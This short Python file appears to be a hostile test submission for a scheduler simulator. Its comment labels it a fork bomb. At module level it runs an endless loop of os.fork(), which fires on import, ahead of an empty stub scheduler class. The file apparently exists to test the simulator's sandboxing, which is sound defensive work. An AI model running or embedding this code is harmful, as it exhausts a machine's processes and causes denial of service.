# tries: a fork bomb
import os

from glia.simulator import BaseGlobalScheduler

while True:
    os.fork()


class P(BaseGlobalScheduler):
    def schedule(self):
        return []
